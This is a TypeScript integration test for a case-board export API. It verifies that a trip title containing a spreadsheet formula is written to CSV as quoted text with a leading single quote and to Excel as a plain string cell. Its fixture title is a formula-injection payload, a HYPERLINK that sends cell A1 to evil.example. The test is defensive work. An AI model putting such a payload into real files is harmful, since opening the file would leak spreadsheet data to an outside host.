import request from 'supertest';
import ExcelJS from 'exceljs';
import { shanghaiDate } from '@df/domain';
import { EventStore } from '@df/persistence';
import { bearer, binaryBody, createTestUsers, startTestApi, uniqueSuffix, type TestApi, type TestUsers } from '../support/api-harness';
import { createTestDatabase, type TestDatabase } from '../support/database';
import { caseStream } from '../support/event-factories';

/**
 * The new-user trial's CSV formula injection: a trip titled as a spreadsheet formula is exported by the board as
 * text a spreadsheet shows (a single quote before it), never as a formula it runs; numbers stay numbers. The Excel
 * export writes the same title as a string cell, not a formula.
 */
const TITLE = '=HYPERLINK("http://evil.example/?x="&A1,"点击")';
const DAY = 86_400_000;

describe('the board export and a title that is a spreadsheet formula', () => {
  let db: TestDatabase;
  let api: TestApi;
  let users: TestUsers;
  let caseId: string;
  beforeAll(async () => {
    db = await createTestDatabase('csvinject');
    api = await startTestApi({ databaseUrl: db.url, dashboardCacheSeconds: 0 });
    users = await createTestUsers(api);
    caseId = `inj-${uniqueSuffix()}`;
    const submittedAt = Date.parse('2026-03-02T01:00:00Z');
    const events = caseStream({
      caseId,
      unit: users.unit,
      title: TITLE,
      submittedAt,
      departureDate: shanghaiDate(submittedAt + 30 * DAY),
      done: [{ key: 'A02', code: 'A02', phase: 'prepare', actorRole: 'organizer', kind: 'task', wd: 1 }],
      open: [{ key: 'B02', code: 'B02', phase: 'review', actorRole: 'fao-clerk', kind: 'approval' }],
      plan: { phase: 'review', slackWd: -3.5, atRisk: true, forecastReadyAt: submittedAt + 40 * DAY, criticalStep: 'B02' },
    });
    const store = api.app.get(EventStore);
    for (let i = 0; i < events.length; i += 4) await store.append(events.slice(i, i + 4));
  });
  afterAll(async () => {
    await api?.close();
    await db?.drop();
  });

  const exported = (format: 'csv' | 'xlsx') =>
    request(api.http)
      .get('/api/dashboard/export')
      .query({ format, unit: users.unit })
      .set(bearer(users.tokens.manager))
      .buffer(true)
      .parse(binaryBody)
      .expect(200);

  it('writes the title in the CSV as quoted text starting with a single quote, the slack as the number -3.5', async () => {
    const text = ((await exported('csv')).body as Buffer).toString('utf8');
    const line = text.split('\r\n').find((l) => l.endsWith(`,${caseId}`));
    expect(line).toBeDefined();
    // The cell is "'=HYPERLINK(...)": a spreadsheet reads text beginning with a quote, not a formula.
    expect(line!.startsWith(`"'=HYPERLINK(""http://evil.example/?x=""&A1,""点击"")",`)).toBe(true);
    expect(line).not.toMatch(/(^|,)=/);
    expect(line).toContain(',-3.5,');
  });

  it('writes the title in the workbook as a string cell, not a formula, and the slack as a number', async () => {
    const wb = new ExcelJS.Workbook();
    await wb.xlsx.load((await exported('xlsx')).body as ExcelJS.Buffer);
    const ws = wb.getWorksheet('在办案件 Cases in flight')!;
    let row: ExcelJS.Row | undefined;
    ws.eachRow((r) => {
      if (r.getCell(10).value === caseId) row = r;
    });
    expect(row).toBeDefined();
    const title = row!.getCell(1);
    expect(title.type).toBe(ExcelJS.ValueType.String);
    expect(title.value).toBe(TITLE);
    expect(title.formula).toBeUndefined();
    expect(row!.getCell(7).type).toBe(ExcelJS.ValueType.Number);
    expect(row!.getCell(7).value).toBe(-3.5);
  });
});
